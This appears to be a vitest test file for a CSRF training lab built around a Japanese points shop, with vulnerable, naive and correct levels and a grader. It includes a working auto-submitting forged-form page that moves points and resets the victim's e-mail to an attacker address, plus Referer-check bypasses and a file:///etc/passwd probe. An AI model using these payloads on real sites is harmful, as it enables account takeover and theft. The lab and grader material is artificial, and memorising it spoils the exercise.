import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { csrfObjectivesMet, gradeCsrfDefence } from '../src/graders/csrf.js';
import { CSRF_EXPLOIT_SET } from '../src/graders/csrf-exploit-set.js';
import { VICTIM, csrfLabClient, readAccount } from '../src/graders/csrf-lab-pages.js';
import { APPS_DIR, labProcesses, type RunningLab } from './lab-process.js';

const startLab = labProcesses('csrf');

function unescapeHtml(text: string): string {
  const entities: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', '#39': "'" };
  return text.replace(/&(amp|lt|gt|quot|#39);/g, (_, name: string) => entities[name] ?? '');
}

const FORM = { 'content-type': 'application/x-www-form-urlencoded' };

/** The learner, signed in as t.tanaka in their own browser. */
async function learnerSession(lab: RunningLab): Promise<string> {
  const { session } = await csrfLabClient(lab.send).signIn(VICTIM.user, VICTIM.password);
  if (!session) throw new Error('could not sign in as the learner');
  return session;
}

async function saveAttackerPage(lab: RunningLab, html: string): Promise<number> {
  const body = new URLSearchParams({ html }).toString();
  return (await lab.send({ method: 'POST', path: '/attacker?lang=en', headers: FORM, body })).status;
}

/** Reports `url` to Ms Sato; the report page with her emulated browser's log. */
async function report(lab: RunningLab, session: string, url = 'http://attacker.example/') {
  const body = new URLSearchParams({ url, message: 'The shop shows an error on this page.' }).toString();
  const res = await lab.send({
    method: 'POST',
    path: '/report?lang=en',
    headers: { ...FORM, cookie: `shop_sid=${session}` },
    body,
  });
  // One line per request: "<status> <request> · <details>", as the table shows them.
  const log = [...res.body.matchAll(/<tr data-visit-row data-status="(\d+)">(.*?)<\/tr>/gs)].map((row) => {
    const cells = [...(row[2] ?? '').matchAll(/<td[^>]*>(.*?)<\/td>/gs)].map((cell) => unescapeHtml(cell[1] ?? ''));
    return `${row[1]} ${cells[0]} · ${cells[2]}`;
  });
  return { status: res.status, body: res.body, log };
}

const FORGED_FORMS = `<!doctype html>
<html><body>
<h1>社内イベントのお知らせ</h1>
<form method="post" action="http://points.minato-shoji.example/transfer">
  <input type="hidden" name="to" value="t.tanaka"><input type="hidden" name="amount" value="5000">
</form>
<form method="post" action="http://points.minato-shoji.example/settings">
  <input type="hidden" name="email" value="sato@attacker.example">
</form>
<script>document.forms[0].submit(); document.forms[1].submit();</script>
</body></html>`;

const NO_REFERRER = FORGED_FORMS.replace('<html>', '<html><head><meta name="referrer" content="no-referrer"></head>');

describe('the CSRF lab (points shop)', () => {
  it('answers in Japanese by default and in English on request, with relative links only', async () => {
    const lab = await startLab('correct');
    const ja = await lab.send({ method: 'GET', path: '/' });
    expect(ja.body).toContain('社内ポイントショップ');
    expect(ja.body).toContain('t.tanaka');
    const session = await learnerSession(lab);
    const en = await lab.send({
      method: 'GET',
      path: '/transfer',
      headers: { 'accept-language': 'en-US,en;q=0.8', cookie: `shop_sid=${session}` },
    });
    expect(en.body).toContain('Send points');
    expect(en.body).toContain('Hanako Suzuki');
    const reportJa = await lab.send({
      method: 'GET',
      path: '/report?lang=ja',
      headers: { cookie: `shop_sid=${session}` },
    });
    expect(reportJa.body).toContain('総務部の佐藤さん');
    for (const body of [ja.body, en.body, reportJa.body]) {
      expect(body).not.toMatch(/(src|href|action)="(https?:|\/)/);
    }
  });

  it('at vulnerable, an auto-submitting form on the attacker page moves her points and changes her e-mail', async () => {
    const lab = await startLab('vulnerable');
    const session = await learnerSession(lab);
    const before = readAccount(
      await lab.send({ method: 'GET', path: '/', headers: { cookie: `shop_sid=${session}` } }),
    );
    expect(await saveAttackerPage(lab, FORGED_FORMS)).toBe(200);
    const visit = await report(lab, session);
    expect(visit.status).toBe(200);
    expect(visit.body).toContain(lab.flag);
    expect(visit.log[1]).toMatch(/^200 POST http:\/\/points\.minato-shoji\.example\/transfer .*session cookie sent/);
    expect(visit.log[2]).toMatch(
      /^200 POST .*\/settings .*accepted: notification e-mail set to sato@attacker\.example/,
    );
    const after = readAccount(await lab.send({ method: 'GET', path: '/', headers: { cookie: `shop_sid=${session}` } }));
    expect(after.points).toBe((before.points ?? 0) + 5000);
    const events = await lab.events();
    expect(events.map((e) => e.objective)).toEqual(['csrf-transfer', 'csrf-email']);
    expect(csrfObjectivesMet(events)).toEqual({ 'csrf-transfer': true, 'csrf-email': true });
  });

  it('the flag never shows for ordinary use: own transfers, a harmless page, a report of a shop page', async () => {
    const lab = await startLab('vulnerable');
    const session = await learnerSession(lab);
    const client = csrfLabClient(lab.send);
    const view = await client.submit({
      method: 'POST',
      path: '/transfer',
      session,
      headers: FORM,
      body: 'to=m.sato&amount=100',
    });
    expect(view).toEqual({ status: 200, result: 'ok', flag: false });
    expect(await saveAttackerPage(lab, '<p>Hello <img src="cat.png"></p>')).toBe(200);
    const visit = await report(lab, session);
    expect(visit.body).not.toContain(lab.flag);
    expect(visit.log[1]).toMatch(/^0 GET http:\/\/attacker\.example\/cat\.png .*not sent/);
    expect((await report(lab, session, 'http://points.minato-shoji.example/')).body).not.toContain(lab.flag);
    expect(await lab.events()).toEqual([]);
  });

  it('at naive, the Referer check stops the plain page, but no-referrer and a same-origin link get through', async () => {
    const lab = await startLab('naive');
    const session = await learnerSession(lab);
    await saveAttackerPage(lab, FORGED_FORMS);
    const blocked = await report(lab, session);
    expect(blocked.body).not.toContain(lab.flag);
    expect(blocked.log[1]).toMatch(/^403 .*refused by checkRequest: the Referer is another site/);
    expect(await lab.events()).toEqual([]);

    await saveAttackerPage(lab, NO_REFERRER);
    const bypass = await report(lab, session);
    expect(bypass.body).toContain(lab.flag);
    expect(bypass.log[1]).toMatch(/^200 POST .*Origin: null, Referer: \(none\)/);
    expect(csrfObjectivesMet(await lab.events())).toEqual({ 'csrf-transfer': true, 'csrf-email': true });

    // The attacker's own URL can hold the shop's host name, and unsafe-url puts all of it in the Referer.
    const unsafeUrl = FORGED_FORMS.replace('<html>', '<html><head><meta name="referrer" content="unsafe-url"></head>');
    await saveAttackerPage(lab, unsafeUrl);
    const viaHost = await report(lab, session, 'http://attacker.example/points.minato-shoji.example');
    expect(viaHost.log[1]).toMatch(/^200 POST .*Referer: http:\/\/attacker\.example\/points\.minato-shoji\.example/);

    const link = 'http://points.minato-shoji.example/transfer?_method=POST&to=t.tanaka&amount=300';
    const viaLink = await report(lab, session, link);
    expect(viaLink.body).toContain(lab.flag);
    expect(viaLink.log[0]).toMatch(/^200 GET .*link in the report/);
  });

  it('at correct, the forged page, the no-referrer page and the link all fail, and the log says why', async () => {
    const lab = await startLab('correct');
    const session = await learnerSession(lab);
    for (const page of [FORGED_FORMS, NO_REFERRER]) {
      await saveAttackerPage(lab, page);
      const visit = await report(lab, session);
      expect(visit.body).not.toContain(lab.flag);
      expect(visit.log[1]).toMatch(/^401 POST .*session cookie not sent \(SameSite=Lax on a cross-site POST request\)/);
    }
    const viaLink = await report(
      lab,
      session,
      'http://points.minato-shoji.example/transfer?_method=POST&to=t.tanaka&amount=300',
    );
    expect(viaLink.log[0]).toMatch(/^403 GET .*refused by checkRequest: changes are accepted only as POST/);
    expect(await lab.events()).toEqual([]);
  });

  it('refuses bad input with 4xx and keeps running', async () => {
    const lab = await startLab('correct');
    const session = await learnerSession(lab);
    const cookie = `shop_sid=${session}`;
    const long = await lab.send({ method: 'GET', path: `/transfer?lang=${'x'.repeat(600)}`, headers: { cookie } });
    expect(long.status).toBe(400);
    const large = await lab.send({
      method: 'POST',
      path: '/transfer',
      headers: { ...FORM, cookie },
      body: `amount=${'9'.repeat(20_000)}`,
    });
    expect(large.status).toBe(413);
    const json = await lab.send({
      method: 'POST',
      path: '/settings',
      headers: { 'content-type': 'application/json', cookie },
      body: '{}',
    });
    expect(json.status).toBe(415);
    const odd = await lab.send({
      method: 'POST',
      path: '/login',
      headers: FORM,
      body: 'username=%00%FF%FE\u0000&password=%C0%AF',
    });
    expect(odd.status).toBe(401);
    const client = csrfLabClient(lab.send);
    const hidden = new URLSearchParams(await client.hiddenFields(session, 'settings'));
    hidden.set('email', 'a\u0000b@x.example');
    const oddEmail = await client.submit({
      method: 'POST',
      path: '/settings',
      session,
      headers: FORM,
      body: hidden.toString(),
    });
    expect(oddEmail).toMatchObject({ status: 400, result: 'error', code: 'EMAIL_INVALID' });
    const hugePage = await lab.send({
      method: 'POST',
      path: '/attacker',
      headers: FORM,
      body: `html=${'a'.repeat(70_000)}`,
    });
    expect(hugePage.status).toBe(400);
    const brokenMultipart = await lab.send({
      method: 'POST',
      path: '/transfer',
      headers: { 'content-type': 'multipart/form-data', cookie },
      body: 'x',
    });
    expect(brokenMultipart.status).toBe(400);
    // Pages the emulated browser has to scan: unclosed tags and quotes, a flood of forms, bad URLs.
    const junk = [
      '<img src="javascript:alert(1)">',
      '<a "',
      '<form>'.repeat(3_000),
      '<iframe src=//x>',
      '<',
      '<form action="http://[::1',
    ].join('');
    expect(await saveAttackerPage(lab, junk)).toBe(200);
    expect((await report(lab, session)).status).toBe(200);
    expect((await report(lab, session, 'file:///etc/passwd')).log).toEqual([
      expect.stringMatching(/^0 GET file:\/\/\/etc\/passwd .*not opened/),
    ]);
    expect((await lab.send({ method: 'GET', path: '/healthz' })).body).toBe('ok');
  });
});

describe('the lab with a learner edit that does not load', () => {
  it('still starts and shows why on the forms', async () => {
    const lab = await startLab('correct', {
      'handler.mjs': 'export function checkRequest(request, session, form) {\n  return {\n',
    });
    const session = await learnerSession(lab);
    const page = await lab.send({
      method: 'GET',
      path: '/transfer?lang=en',
      headers: { cookie: `shop_sid=${session}` },
    });
    expect(page.status).toBe(200);
    expect(page.body).toContain('handler.mjs did not load');
    const result = await gradeCsrfDefence(lab.send);
    expect(result.passed).toBe(false);
    expect(result.checks.find((c) => c.id === 'transfer-same-origin')?.passed).toBe(false);
  });
});

describe(gradeCsrfDefence.name, () => {
  // At naive only the checks that send a present-but-wrong token hold; everything that leaves the token out, or
  // brings a valid one from the wrong place, gets through. Every functional check passes at every level.
  it.each([
    ['vulnerable', false, CSRF_EXPLOIT_SET.map((check) => check.id)],
    [
      'naive',
      false,
      CSRF_EXPLOIT_SET.map((check) => check.id).filter((id) => id !== 'wrong-token' && id !== 'other-session-token'),
    ],
    ['correct', true, []],
  ] as const)('at %s the defence passes: %s', async (level, passes, failing) => {
    const lab = await startLab(level);
    const started = performance.now();
    const result = await gradeCsrfDefence(lab.send);
    const ms = Math.round(performance.now() - started);
    const failed = result.checks.filter((c) => !c.passed).map((c) => `${c.id}: ${c.detail}`);
    const report = `grader at ${level} (${ms} ms): ${failed.length} of ${result.checks.length} checks failed\n  ${failed.join('\n  ')}`;
    expect(result.passed, report).toBe(passes);
    const failedIds = result.checks.filter((c) => !c.passed).map((c) => c.id);
    expect(failedIds).toEqual(failing);
    expect(result.checks.filter((c) => c.kind === 'function' && !c.passed)).toEqual([]);
    expect(result.checks.filter((c) => c.kind === 'function').length).toBe(7);
    // The grader's victim and beneficiary are ordinary members: grading never meets an attack objective.
    expect(await lab.events()).toEqual([]);
  });

  it('fails a fix that relies on Origin and Sec-Fetch-Site alone, and one with a token shared by all sessions', async () => {
    const correct = await readFile(path.join(APPS_DIR, 'csrf/levels/correct/handler.mjs'), 'utf8');
    const headersOnly = correct.replace(/\n {2}\/\/ The token from the form body only[\s\S]*?\n {2}\}\n/, '\n');
    expect(headersOnly).not.toContain("form.get('csrf_token')");
    const onlyHeaders = await gradeCsrfDefence((await startLab('correct', { 'handler.mjs': headersOnly })).send);
    expect(onlyHeaders.checks.filter((c) => !c.passed).map((c) => c.id)).toEqual(
      expect.arrayContaining(['no-token-no-headers', 'wrong-token', 'text-plain']),
    );
    const shared = correct
      .replace('session.csrfToken ??= randomBytes(32)', 'globalThis.sharedToken ??= randomBytes(32)')
      .replace(
        'return { csrf_token: session.csrfToken };',
        'session.csrfToken = globalThis.sharedToken;\n  return { csrf_token: session.csrfToken };',
      );
    expect(shared).toContain('globalThis.sharedToken');
    const sharedResult = await gradeCsrfDefence((await startLab('correct', { 'handler.mjs': shared })).send);
    expect(sharedResult.checks.filter((c) => !c.passed).map((c) => c.id)).toEqual(['other-session-token']);
  });
});
